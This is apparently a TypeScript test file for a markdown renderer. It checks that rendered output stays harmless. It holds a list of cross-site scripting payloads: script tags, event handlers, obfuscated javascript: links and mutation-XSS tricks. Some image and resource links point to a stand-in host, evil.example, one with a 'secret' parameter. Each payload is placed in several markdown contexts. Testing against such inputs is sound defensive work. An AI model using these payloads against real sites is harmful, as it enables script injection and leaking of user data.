import { assertEquals } from "@std/assert";
import { harmlessTest } from "./harmless_test_case.ts";
import type {} from "./markdown_fixture.ts";
import { buildFixture, openMarkdownPage } from "./markdown_page.ts";
import { openBrowser } from "./open_browser.ts";

/** Texts that do harm if HTML reaches the page, URLs are not checked, or images load without asking. */
const PAYLOADS: readonly string[] = [
  "<script>top.pwned = 1</script>",
  "<img src=x onerror='top.pwned = 1'>",
  "<svg><script>top.pwned = 1</script></svg>",
  "<svg/onload=top.pwned=1>",
  "<iframe srcdoc='<script>top.pwned = 1</script>'></iframe>",
  "<style>@import 'https://evil.example/a.css'</style>",
  "<link rel=stylesheet href=https://evil.example/b.css>",
  "<video poster=https://evil.example/c.png><source src=https://evil.example/d.mp4></video>",
  "<object data=https://evil.example/e></object>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/f'>",
  "<form action=https://evil.example/g><button>go</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=top.pwned=1>",
  "<a href='javascript:top.pwned=1'>x</a>",
  "[x](javascript:top.pwned=1)",
  "[x](JaVa\u0009ScRiPt:top.pwned=1)",
  "[x](javascript&colon;top.pwned=1)",
  "[x](&#x6a;avascript:top.pwned=1)",
  "[x](<java\u200bscript:top.pwned=1>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "[x](https://a.example 'title\" onmouseover=\"top.pwned=1')",
  "<javascript:top.pwned=1>",
  "[x][r]\n\n[r]: javascript:top.pwned=1",
  "![x](https://evil.example/h.png?secret=1)",
  "![x](//evil.example/i.png)",
  "![x](data:image/svg+xml,<svg/onload=top.pwned=1>)",
  "![x](javascript:top.pwned=1)",
  '![x" onerror="top.pwned=1](https://evil.example/j.png)',
  "[![x](https://evil.example/k.png)](https://evil.example/l)",
  "![x][s]\n\n[s]: https://evil.example/m.png",
  "```<script>top.pwned=1</script>\ncode\n```",
  '```js" onload="top.pwned=1\n</code></pre><script>top.pwned=1</script>\n```',
  "| <img src=x onerror=top.pwned=1> | ![x](https://evil.example/n.png) |\n|---|---|\n| [y](javascript:1) | <b |",
  "`<img src=x onerror=top.pwned=1>`",
  "{{constructor.constructor('top.pwned=1')()}} ${top.pwned=1} <!--?lit$1$--> ?lit$",
];

const PLACES: readonly (readonly [string, (payload: string) => string])[] = [
  ["as it is", (payload) => payload],
  ["in a list", (payload) => `- item\n- ${payload.replaceAll("\n", "\n  ")}`],
  ["in a quote", (payload) => `> ${payload.replaceAll("\n", "\n> ")}`],
  ["in a table cell", (payload) => `| a |\n|---|\n| ${payload.replace(/\s+/g, " ")} |\n`],
  ["as a link's text", (payload) => `[${payload}](https://a.example)`],
  ["in emphasis", (payload) => `**${payload}**`],
];

const browser = await openBrowser();
const files = browser === undefined ? new Map<string, string>() : await buildFixture();
if (browser !== undefined) Deno.test.afterAll(() => browser.close());

for (const [place, put] of PLACES) {
  harmlessTest(
    `renderMarkdown renders hostile text without harm ${place}, at every frame`,
    PAYLOADS.map(put),
    browser,
    files,
  );
}

Deno.test({
  name: "findHarm finds the harm in hostile HTML",
  ignore: browser === undefined,
  fn: async () => {
    if (browser === undefined) return;
    const { page } = await openMarkdownPage(browser, files, { policy: "img-src 'none'; script-src 'self'" });
    try {
      const found = await page.evaluate(() => {
        const fixture = new MarkdownFixture();
        const parsed = new DOMParser().parseFromString(
          "<p onclick=x>1</p><a href='javascript:1' rel='noopener noreferrer'>2</a><img src='https://evil.example/'><b>3</b>",
          "text/html",
        );
        fixture.root.append(...parsed.body.children);
        return fixture.findHarm();
      });
      assertEquals(found, [
        "attribute onclick of p",
        "link to javascript:1",
        "image from https://evil.example/",
        "element b",
      ]);
    } finally {
      await page.context().close();
    }
  },
});
